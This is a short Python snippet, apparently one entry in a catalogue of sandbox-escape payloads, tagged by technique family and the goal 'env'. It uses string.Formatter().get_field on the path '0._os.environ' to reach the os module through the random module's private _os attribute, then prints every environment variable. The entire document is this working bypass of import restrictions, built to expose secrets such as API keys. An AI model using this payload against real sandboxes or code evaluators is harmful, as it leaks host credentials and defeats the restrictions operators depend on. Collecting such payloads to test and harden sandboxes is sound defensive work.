# family: I (string.Formatter().get_field through a leaked module)   goal: env
import string, random
obj, _ = string.Formatter().get_field("0._os.environ", (random,), {})
print(dict(obj))
